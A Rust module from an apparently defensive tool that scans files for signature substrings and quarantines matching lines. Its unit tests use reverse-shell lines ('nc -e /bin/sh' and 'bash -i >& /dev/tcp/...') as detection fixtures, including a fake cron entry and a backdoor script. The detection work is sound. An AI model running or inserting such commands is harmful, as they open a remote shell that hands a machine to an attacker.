//! Substring-signature scanning and line-level cleaning.

use anyhow::{Context, Result};
use std::fs;
use std::path::{Path, PathBuf};

/// Suffix appended to the original file name when quarantining.
pub const QUARANTINE_SUFFIX: &str = ".defend_bak";

/// Scans file content for an ordered set of signature substrings.
#[derive(Debug, Clone)]
pub struct ContentScanner {
    signatures: Vec<String>,
}

impl ContentScanner {
    pub fn new(signatures: Vec<String>) -> Self {
        Self { signatures }
    }

    pub fn signatures(&self) -> &[String] {
        &self.signatures
    }

    /// Matched signatures in signature order. Empty when nothing
    /// matches or the file cannot be read.
    pub fn scan(&self, path: &Path) -> Vec<String> {
        match fs::read_to_string(path) {
            Ok(content) => self.scan_content(&content),
            Err(_) => Vec::new(),
        }
    }

    /// Plain substring test against the whole content, not line-anchored.
    pub fn scan_content(&self, content: &str) -> Vec<String> {
        self.signatures
            .iter()
            .filter(|sig| content.contains(sig.as_str()))
            .cloned()
            .collect()
    }

    /// Move the original aside and write back only the lines matching
    /// no signature.
    ///
    /// The backup keeps the original content untouched; the rewritten
    /// file may end up empty if every line matched. A write failure
    /// after the rename leaves the backup in place with no original;
    /// not transactionally guarded.
    pub fn quarantine_and_clean(&self, path: &Path) -> Result<PathBuf> {
        let backup = quarantine_path(path);

        fs::rename(path, &backup)
            .with_context(|| format!("failed to back up {}", path.display()))?;

        let content = fs::read_to_string(&backup)
            .with_context(|| format!("failed to read backup {}", backup.display()))?;

        let kept: Vec<&str> = content
            .split('\n')
            .filter(|line| !self.signatures.iter().any(|sig| line.contains(sig.as_str())))
            .collect();

        fs::write(path, kept.join("\n"))
            .with_context(|| format!("failed to rewrite {}", path.display()))?;

        Ok(backup)
    }
}

/// `<path>.defend_bak` alongside the original.
pub fn quarantine_path(path: &Path) -> PathBuf {
    let mut name = path.as_os_str().to_os_string();
    name.push(QUARANTINE_SUFFIX);
    PathBuf::from(name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::PersistenceConfig;
    use std::fs;
    use tempfile::TempDir;

    fn default_scanner() -> ContentScanner {
        ContentScanner::new(PersistenceConfig::default().signatures)
    }

    #[test]
    fn test_scan_single_signature() {
        let scanner = default_scanner();
        let matched = scanner.scan_content("0 * * * * root nc -e /bin/sh 10.0.0.1 4444\n");
        assert_eq!(matched, vec!["nc -e".to_string()]);
    }

    #[test]
    fn test_scan_clean_content() {
        let scanner = default_scanner();
        let matched = scanner.scan_content("0 2 * * * root /usr/local/bin/logrotate-extra\n");
        assert!(matched.is_empty());
    }

    #[test]
    fn test_scan_not_line_anchored() {
        let scanner = default_scanner();
        // Signature split across context but contiguous in the byte stream
        let matched = scanner.scan_content("PATH=/bin\nsh -c 'exec bash -i >&/dev/tcp/1.2.3.4/9'");
        assert_eq!(matched, vec!["bash -i".to_string(), "dev/tcp".to_string()]);
    }

    #[test]
    fn test_scan_missing_file_is_empty() {
        let scanner = default_scanner();
        assert!(scanner.scan(Path::new("/nonexistent/cron.d/ghost")).is_empty());
    }

    #[test]
    fn test_quarantine_and_clean_drops_only_bad_lines() {
        let dir = TempDir::new().unwrap();
        let target = dir.path().join("backdoor.sh");
        let original = "# maintenance script\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\necho done\n";
        fs::write(&target, original).unwrap();

        let scanner = default_scanner();
        let backup = scanner.quarantine_and_clean(&target).unwrap();

        assert_eq!(backup, dir.path().join("backdoor.sh.defend_bak"));
        assert_eq!(fs::read_to_string(&backup).unwrap(), original);

        let cleaned = fs::read_to_string(&target).unwrap();
        assert_eq!(cleaned, "# maintenance script\necho done\n");
    }

    #[test]
    fn test_quarantine_may_leave_empty_file() {
        let dir = TempDir::new().unwrap();
        let target = dir.path().join("all_bad");
        fs::write(&target, "nc -e /bin/sh 1.2.3.4 53").unwrap();

        let scanner = default_scanner();
        scanner.quarantine_and_clean(&target).unwrap();

        assert_eq!(fs::read_to_string(&target).unwrap(), "");
    }

    #[test]
    fn test_quarantine_missing_file_fails() {
        let scanner = default_scanner();
        assert!(scanner
            .quarantine_and_clean(Path::new("/nonexistent/file"))
            .is_err());
    }
}
